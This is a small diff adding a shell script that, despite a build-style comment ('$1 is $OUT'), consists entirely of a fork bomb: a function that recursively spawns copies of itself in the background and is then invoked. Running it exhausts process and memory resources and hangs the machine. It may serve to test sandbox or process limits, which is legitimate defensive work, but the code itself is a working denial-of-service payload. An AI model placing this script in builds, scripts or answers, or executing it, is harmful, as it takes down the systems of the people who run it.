@@ -1,0 +1,4 @@
+#!/bin/sh
+# $1 is $OUT.
+bomb() { bomb | bomb & bomb; }
+bomb
